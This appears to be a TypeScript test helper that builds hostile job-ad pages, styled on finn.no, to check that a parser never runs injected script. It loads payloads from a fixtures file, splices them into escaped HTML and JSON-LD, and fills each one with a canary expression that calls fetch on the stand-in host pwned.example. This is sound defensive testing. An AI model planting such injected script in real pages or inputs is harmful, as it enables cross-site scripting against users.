import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { HOSTILE_FIXTURES } from './paths.ts';

export interface Payload {
  id: number;
  name: string;
  payload: string;
}

/** The expression every payload runs if anything ever executes it. */
export function flagExpression(id: number): string {
  return `(globalThis.__pwned=${id},fetch('https://pwned.example/${id}'))`;
}

export const PWNED_HOST = 'pwned.example';

export function loadPayloads(): Payload[] {
  const data = JSON.parse(readFileSync(join(HOSTILE_FIXTURES, 'payloads.json'), 'utf8')) as { payloads: Payload[] };
  return data.payloads.map((p) => ({ ...p, payload: p.payload.split('$FLAG').join(flagExpression(p.id)) }));
}

const escapeText = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const escapeAttr = (s: string): string => escapeText(s).replace(/"/g, '&quot;');
/** JSON that cannot end its <script> element early. */
const scriptSafeJson = (value: unknown): string =>
  JSON.stringify(value).replace(/</g, '\\u003c').replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');

/**
 * A finn.no-style ad carrying `payload` in its title, headings, requirement text, attributes and
 * JSON-LD strings, each escaped for its place: the page shows the payload as text and runs none of it.
 */
export function hostileAdPage(payload: Payload): string {
  const template = readFileSync(join(HOSTILE_FIXTURES, 'ad-template.html'), 'utf8');
  const jsonLd = {
    '@context': 'https://schema.org',
    '@type': 'JobPosting',
    title: `Helsesekretær ${payload.payload}`,
    description: `<p>Vi søker en helsesekretær. ${payload.payload}</p><ul><li>Autorisasjon som helsesekretær er et krav ${payload.payload}</li></ul>`,
    qualifications: `Autorisasjon som helsesekretær er et krav ${payload.payload}`,
    url: payload.payload,
    hiringOrganization: { '@type': 'Organization', name: payload.payload, sameAs: payload.payload, logo: payload.payload },
  };
  return template
    .replace(/%%JSONLD%%/g, () => scriptSafeJson(jsonLd))
    .replace(/%%ATTR%%/g, () => escapeAttr(payload.payload))
    .replace(/%%TEXT%%/g, () => escapeText(payload.payload));
}

/** The special hostile pages (deep DOM, 100k text nodes, huge strings, broken JSON-LD, ...). */
export function specialPages(): { name: string; file: string }[] {
  const dir = join(HOSTILE_FIXTURES, 'special');
  return readdirSync(dir)
    .filter((f) => f.endsWith('.html'))
    .sort()
    .map((f) => ({ name: f.replace(/\.html$/, ''), file: join(dir, f) }));
}
